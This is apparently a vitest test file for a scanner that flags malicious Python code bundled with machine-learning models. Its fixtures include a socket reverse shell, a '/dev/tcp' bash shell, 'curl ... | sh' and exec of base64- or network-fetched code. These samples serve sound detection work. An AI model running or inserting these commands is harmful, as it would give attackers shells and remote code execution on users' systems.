/** Code of Python beside models: graded by what it calls. */
import { describe, expect, it } from 'vitest';
import type { FileScan } from '../../src/scan/index.js';
import { utf8 } from '../support/builders.js';
import { scanBytes } from '../support/scan/scan.js';

const scan = (text: string, name = 'modeling_acme.py'): Promise<FileScan> => scanBytes(utf8(text), name);

const HIDDEN = [
  'import base64\nexec(base64.b64decode("aaaa"))\n',
  'from base64 import b64decode as d\nexec(d("aaaa"))\n',
  'import zlib, marshal\nexec(marshal.loads(zlib.decompress(b"x")))\n',
  'import requests\nexec(requests.get("https://example.org/x").text)\n',
  'import urllib.request as u\neval(u.urlopen("https://example.org").read())\n',
  'import base64\ncode = base64.b64decode("aaaa")\nexec(code)\n',
  'exec("import os; os.system(\'echo\')")\n',
  'import socket,subprocess,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh"])\n',
  'import os\nos.system("curl https://example.org/x | sh")\n',
  'import subprocess as s\ns.run("bash -i >& /dev/tcp/192.0.2.1/1", shell=True)\n',
  'import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))\n',
  'exec(bytes.fromhex("6f73").decode())\n',
  '# coding: utf-7\nx = 1\n',
  '#!/usr/bin/python\n# -*- coding: unicode_escape -*-\nx = 1\n',
  '# vim: set fileencoding=rot13 :\nx = 1\n',
  '__builtins__.exec(__import__("base64").b64decode("aaaa"))\nimport base64\nexec(base64.b64decode("x"))',
];
const RUNNING = [
  'import os as o\no.system("ls")\n',
  'from os import system\nsystem("ls")\n',
  'from os import (\n  path,\n  popen as p,\n)\np("ls")\n',
  'from subprocess import run as r\nr(["ls"])\n',
  '__import__("os").system("ls")\n',
  '__import__("o" + "s").system("ls")\n',
  'import importlib\nimportlib.import_module("os").system("ls")\n',
  'import os\ngetattr(os, "sys" + "tem")("ls")\n',
  'import os\ngetattr(os, name)("ls")\n',
  'getattr(__import__("os"), "system")("ls")\n',
  'import os\nrun = os.system\nrun("ls")\n',
  'o = __import__("os")\no.system("ls")\n',
  'import importlib as i\nm = i.import_module("subprocess")\nm.run(["ls"])\n',
  'import os\na = os\nb = a\nb.popen("ls")\n',
  'from os import *\nsystem("ls")\n',
  'import sys\nsys.modules["os"].system("ls")\n',
  'import sys\nm = sys.modules["os"]\nm.system("ls")\n',
  'import os\nos.__dict__["system"]("ls")\n',
  'import os\nvars(os)["system"]("ls")\n',
  'if (o := __import__("os")):\n  o.system("ls")\n',
  'import os\nx = 1; os.system("ls")\n',
  'import os\nos.\\\n  system("ls")\n',
  'import os\nos.\u{1d530}ystem("ls")\n',
];
const BROKEN = [
  'import import\n',
  'from a import as b\n',
  'from import\n',
  'import (((\n',
  'from . import (\n',
  'a.b.\n',
  '"""',
  "x = '\\",
];
const HARMLESS = [
  'import torch\nimport os\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def eval(self):\n        return self.inner.eval()\n\n    def exec(self, x):\n        return torch.compile(x)\n\n    def path(self):\n        return os.path.join("a", os.environ["HOME"])\n',
  '"""Runs os.system("x") and exec(base64.b64decode(y)) in its text only."""\nimport base64\nfrom subprocess import PIPE, CalledProcessError\n# os.system("x")\nimage = base64.b64decode("aaaa")\n',
  '# -*- coding: latin-1 -*-\n# no coding here\nexec = None\nrun(exec=exec)\nsystem = platform.system\nsystem()\n',
  'import sys\nif "torch" in sys.modules:\n  x = sys.modules["torch"].cuda\nos = 3\nfrom math import *\nsystem(1)\n',
  'import re\npattern = re.compile("x")\nmodel.eval()\nresult = df.eval("a + b")\n',
  'from transformers import AutoModel\nmodel = AutoModel.from_pretrained("acme/model")\nprint(f"{model!r:>{10}}", \'\'\'a\n"""b\'\'\')\n',
];

describe('code of Python', () => {
  it.each(HIDDEN)('that runs what nobody can read is malicious: %j', async (text) => {
    const found = await scan(text);
    expect(found).toMatchObject({ verdict: 'malicious', status: 'complete', formats: ['python'] });
    expect(found.findings[0]?.rule).toBe('python-hidden-code');
  });
  it.each(RUNNING)('that runs programs is suspicious: %j', async (text) => {
    const { verdict, findings } = await scan(text);
    expect(findings.map(({ rule }) => rule)).toContain('python-process');
    expect(verdict).toBe('suspicious');
  });
  it.each([
    'eval(text)\n',
    'list(map(exec, [text]))\n',
    '@exec\n@input\nclass A: pass\n',
    '__builtins__.__dict__["exec"](text)\n',
    'import ctypes\nctypes.CDLL("./a.so")\n',
    'import torch\ntorch.ops.load_library("a.so")\n',
  ])('that runs what it makes is suspicious: %j', async (text) => {
    expect(await scan(text)).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'python-eval' }, {}] });
  });
  it.each(HARMLESS)('that does not is clean: %j', async (text) => {
    expect(await scan(text)).toMatchObject({ verdict: 'clean', status: 'complete', findings: [{ rule: 'python-code' }] });
  });
  it('that opens connections is told, and clean', async () => {
    const { verdict, findings, facts } = await scan(
      'import requests\nimport pickle\nrequests.get("https://example.org")\npickle.load(f)\n',
    );
    expect(verdict).toBe('clean');
    expect(findings.map(({ rule }) => rule)).toEqual(['python-code', 'python-network']);
    expect(facts['']?.modules).toEqual(['pickle', 'requests']);
  });
  it.each(BROKEN)('that is none is looked at as far as it goes: %j', async (text) => {
    expect(await scan(text)).toMatchObject({ verdict: 'clean', formats: ['python'] });
    expect((await scan(`${text}import os\nos.system("x")\n`)).status).toBe('complete');
  });
  it('is known by its content, and pages that show code are not', async () => {
    expect(await scan(RUNNING[0] ?? '', 'a')).toMatchObject({ formats: ['python'] });
    expect(await scan('From now on\nimport os\nos.system("x")\n', 'README.md')).toMatchObject({ formats: ['text'], findings: [] });
  });
});
